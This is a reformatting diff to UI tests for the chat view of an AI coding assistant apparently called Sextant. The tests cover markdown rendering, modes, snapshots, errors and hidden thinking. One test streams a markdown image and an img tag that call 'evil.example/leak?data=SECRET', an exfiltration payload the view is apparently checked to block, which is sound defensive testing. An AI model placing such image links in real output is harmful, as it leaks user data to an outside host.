@@ -34,7 +34,13 @@ describe('chat view', () => {
     await startedChat();
     const r = new RequestScript('r1');
     await deliver(view, r.events(r.started('show me')));
-    const chunks = ['# Title\n\nSome **bold** and `code`.\n\n', '```js\nconsole.log("hi");\n', '```\n\n| a | b |\n|---|---|\n', '| 1 | 2 |\n', '\nDone.'];
+    const chunks = [
+      '# Title\n\nSome **bold** and `code`.\n\n',
+      '```js\nconsole.log("hi");\n',
+      '```\n\n| a | b |\n|---|---|\n',
+      '| 1 | 2 |\n',
+      '\nDone.',
+    ];
     for (const text of chunks) await deliver(view, r.events({ type: 'text_delta', text }));
     const answer = view.page.getByRole('article', { name: 'Sextant' });
     await answer.getByRole('heading', { name: 'Title' }).waitFor();
@@ -59,7 +65,10 @@ describe('chat view', () => {
   it('shows the user message and the mode of each turn', async () => {
     await startedChat();
     const r = new RequestScript('r1');
-    await deliver(view, r.events(r.started('hello there', 'research'), { type: 'text_delta', text: 'hi' }, { type: 'complete' }));
+    await deliver(
+      view,
+      r.events(r.started('hello there', 'research'), { type: 'text_delta', text: 'hi' }, { type: 'complete' }),
+    );
     const user = view.page.getByRole('article', { name: 'You' });
     assert.match((await user.textContent()) ?? '', /hello there/);
     assert.match((await user.textContent()) ?? '', /Research/);
@@ -73,7 +82,10 @@ describe('chat view', () => {
       view,
       r.events(
         r.started('q'),
-        { type: 'text_delta', text: 'See [the docs](https://example.com/docs) and ![secret chart](https://evil.example/leak?data=SECRET).\n\n<img src="https://evil.example/raw.png" alt="raw">' },
+        {
+          type: 'text_delta',
+          text: 'See [the docs](https://example.com/docs) and ![secret chart](https://evil.example/leak?data=SECRET).\n\n<img src="https://evil.example/raw.png" alt="raw">',
+        },
         { type: 'complete' },
       ),
     );
@@ -157,7 +169,10 @@ describe('chat view', () => {
     await view.waitForPost('setMode', (m) => m.mode === 'agent');
     await view.page.keyboard.press('Shift+Tab');
     await view.waitForPost('setMode', (m) => m.mode === 'chat');
-    assert.deepEqual((await view.posts()).filter((p) => p.type === 'setMode').map((p) => (p as { mode: string }).mode), ['research', 'agent', 'chat']);
+    assert.deepEqual(
+      (await view.posts()).filter((p) => p.type === 'setMode').map((p) => (p as { mode: string }).mode),
+      ['research', 'agent', 'chat'],
+    );
     // Sending uses the mode now shown.
     await group.getByRole('radio', { name: 'Agent' }).check();
     await view.waitForPost('setMode', (m) => m.mode === 'agent');
@@ -210,21 +225,38 @@ describe('chat view', () => {
 
   it('rebuilds everything from a snapshot, including a request still in flight', async () => {
     await startedChat();
-    const msgs = [message('user', 'old question'), message('assistant', 'old **answer**'), message('user', 'current'), message('assistant', 'partial', { id: 'a-live', status: 'streaming' })];
+    const msgs = [
+      message('user', 'old question'),
+      message('assistant', 'old **answer**'),
+      message('user', 'current'),
+      message('assistant', 'partial', { id: 'a-live', status: 'streaming' }),
+    ];
     await deliver(
       view,
-      snapshotMessage(snapshot({ mode: 'agent', messages: msgs, inFlightRequestId: 'r-live', inFlightAssistantMessageId: 'a-live', inFlightLastSeq: 4, todos: [{ id: 't1', content: 'Write tests', status: 'in_progress' }] })),
+      snapshotMessage(
+        snapshot({
+          mode: 'agent',
+          messages: msgs,
+          inFlightRequestId: 'r-live',
+          inFlightAssistantMessageId: 'a-live',
+          inFlightLastSeq: 4,
+          todos: [{ id: 't1', content: 'Write tests', status: 'in_progress' }],
+        }),
+      ),
     );
     assert.equal(await view.page.getByRole('article').count(), 4);
     await view.page.getByRole('radio', { name: 'Agent', checked: true }).waitFor();
     await view.page.getByRole('button', { name: 'Stop' }).waitFor();
     await view.page.getByRole('list', { name: 'Todos' }).getByText('Write tests').waitFor();
     // Events after the snapshot continue the in-flight message; a stale one (seq ≤ 4) is ignored.
-    await deliver(view, { type: 'events', envelopes: [
-      { requestId: 'r-live', seq: 4, ts: 1, event: { type: 'text_delta', text: ' STALE' } },
-      { requestId: 'r-live', seq: 5, ts: 2, event: { type: 'text_delta', text: ' and more' } },
-      { requestId: 'r-live', seq: 6, ts: 3, event: { type: 'complete' } },
-    ] });
+    await deliver(view, {
+      type: 'events',
+      envelopes: [
+        { requestId: 'r-live', seq: 4, ts: 1, event: { type: 'text_delta', text: ' STALE' } },
+        { requestId: 'r-live', seq: 5, ts: 2, event: { type: 'text_delta', text: ' and more' } },
+        { requestId: 'r-live', seq: 6, ts: 3, event: { type: 'complete' } },
+      ],
+    });
     const last = view.page.getByRole('article', { name: 'Sextant' }).last();
     await last.getByText('partial and more').waitFor();
     assert.doesNotMatch((await last.textContent()) ?? '', /STALE/);
@@ -254,7 +286,13 @@ describe('chat view', () => {
   it('errors show their text with Retry, and Set API Key for a missing key', async () => {
     await startedChat();
     const r = new RequestScript('r-err');
-    await deliver(view, r.events(r.started('q'), { type: 'error', error: { code: 'no_key', message: 'No API key for minimax. Run "Sextant: Set API Key".', recoverable: true } }));
+    await deliver(
+      view,
+      r.events(r.started('q'), {
+        type: 'error',
+        error: { code: 'no_key', message: 'No API key for minimax. Run "Sextant: Set API Key".', recoverable: true },
+      }),
+    );
     const answer = view.page.getByRole('article', { name: 'Sextant' });
     await answer.getByRole('alert').getByText('No API key for minimax').waitFor();
     await answer.getByRole('button', { name: 'Set API Key' }).click();
@@ -263,7 +301,13 @@ describe('chat view', () => {
     const retry = await view.waitForPost('retry');
     assert.ok(retry.requestId.length > 0);
     const r2 = new RequestScript('r-err2');
-    await deliver(view, r2.events(r2.started('q2'), { type: 'error', error: { code: 'rate_limit', message: 'Rate limited (429).', recoverable: true } }));
+    await deliver(
+      view,
+      r2.events(r2.started('q2'), {
+        type: 'error',
+        error: { code: 'rate_limit', message: 'Rate limited (429).', recoverable: true },
+      }),
+    );
     const second = view.page.getByRole('article', { name: 'Sextant' }).last();
     await second.getByRole('button', { name: 'Retry' }).waitFor();
     assert.equal(await second.getByRole('button', { name: 'Set API Key' }).count(), 0);
@@ -272,7 +316,15 @@ describe('chat view', () => {
   it('thinking is shown collapsed', async () => {
     await startedChat();
     const r = new RequestScript('r-think');
-    await deliver(view, r.events(r.started('q'), { type: 'thinking_delta', text: 'Let me consider SECRET-THOUGHT' }, { type: 'text_delta', text: 'Answer' }, { type: 'complete' }));
+    await deliver(
+      view,
+      r.events(
+        r.started('q'),
+        { type: 'thinking_delta', text: 'Let me consider SECRET-THOUGHT' },
+        { type: 'text_delta', text: 'Answer' },
+        { type: 'complete' },
+      ),
+    );
     const answer = view.page.getByRole('article', { name: 'Sextant' });
     await answer.getByText('Thinking').waitFor();
     assert.equal(await answer.getByText('Let me consider SECRET-THOUGHT').isVisible(), false);
